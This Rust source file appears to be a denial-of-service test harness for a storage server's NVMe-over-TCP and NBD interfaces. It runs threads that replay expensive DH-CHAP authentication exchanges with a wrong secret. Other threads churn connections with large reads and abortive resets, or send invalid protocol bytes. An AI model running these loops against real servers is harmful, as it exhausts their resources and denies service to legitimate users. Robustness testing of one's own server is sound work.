//! Work that a server does for unauthenticated hosts.

use std::io::{self, Read};
use std::thread;
use std::time::Duration;

use bytes::Bytes;
use rustix::net::sockopt::set_socket_linger;
use zonda_chap::{Group, Hash, HostAuth, HostAuthConfig, Policy, Random, Secret};
use zonda_nvme::IoOpcode;

use super::hold::unread_nbd;
use super::{ADDRESS, PAUSE, Victim};
use crate::nvme::{Queue, attach, dial, transfer};
use crate::{GUARDED, HOST, OPEN};

/// Connections that authenticate at the same time.
const AUTHENTICATIONS: usize = 8;
/// Threads that open and abort connections.
const CHURNERS: usize = 3;

/// Repeats an exchange that is expensive for the server and cheap for the attacker, which replays
/// its messages.
pub(super) fn diffie_hellman(victim: Victim) -> ! {
    let threads = (0..AUTHENTICATIONS).map(|_| {
        thread::spawn(move || {
            let mut recorded = None;
            loop {
                if exchange(&victim, &mut recorded).is_err() {
                    thread::sleep(PAUSE);
                }
            }
        })
    });
    let threads: Vec<thread::JoinHandle<()>> = threads.collect();
    threads.into_iter().for_each(|thread| drop(thread.join()));
    unreachable!("the threads never end")
}

fn exchange(victim: &Victim, recorded: &mut Option<(Bytes, Bytes)>) -> io::Result<()> {
    let mut queue = Queue::open(ADDRESS, victim.nvme)?;
    queue.connect(HOST, GUARDED, 0, None, 0)?;
    if let Some((negotiate, reply)) = recorded {
        queue.send_message(negotiate)?;
        queue.receive_message()?;
        queue.send_message(reply)?;
        return Ok(());
    }
    // Any wrong secret.
    let mut config = HostAuthConfig::new(HOST, GUARDED, Secret::generate(None, [6; 64]));
    config.policy = Policy::new(&[Hash::Sha256], &[Group::Ffdhe8192]).map_err(io::Error::other)?;
    let mut machine = HostAuth::new(config, Random::new([8; 32]));
    let missing = || io::Error::other("no message");
    let negotiate: Bytes = machine.message().ok_or_else(missing)?.into();
    queue.send_message(&negotiate)?;
    let challenge = queue.receive_message()?;
    machine.receive(&challenge).map_err(io::Error::other)?;
    *recorded = Some((negotiate, machine.message().ok_or_else(missing)?.into()));
    Ok(())
}

/// Connects, requests large reads, and aborts.
pub(super) fn churn(victim: Victim) -> ! {
    for number in 0..CHURNERS {
        thread::spawn(move || {
            loop {
                let result = match number {
                    0 => nvme_reads(&victim),
                    1 => unread_nbd(&victim).map(|_| ()),
                    _ => strange_bytes(&victim),
                };
                if result.is_err() {
                    thread::sleep(Duration::from_millis(1));
                }
            }
        });
    }
    loop {
        thread::park();
    }
}

fn nvme_reads(victim: &Victim) -> io::Result<()> {
    let (_admin, mut queue) = attach(ADDRESS, victim.nvme, "nqn.2026-01.io.zonda:churn", OPEN, None)?;
    for number in 0..32 {
        queue.start(transfer(IoOpcode::Read, number * 256, 256), &Bytes::new())?;
    }
    // Closing causes a reset.
    set_socket_linger(&queue.stream, Some(Duration::ZERO))?;
    Ok(())
}

/// Bytes that are invalid in every protocol of the server.
fn strange_bytes(victim: &Victim) -> io::Result<()> {
    for address in [victim.nvme, victim.nbd] {
        let mut stream = dial(ADDRESS, address)?;
        io::Write::write_all(&mut stream, b"GET / HTTP/1.1\r\n\r\n\xff\xff\xff\xff")?;
        // The reply is ignored.
        let _ = stream.read(&mut [0; 512]);
    }
    Ok(())
}
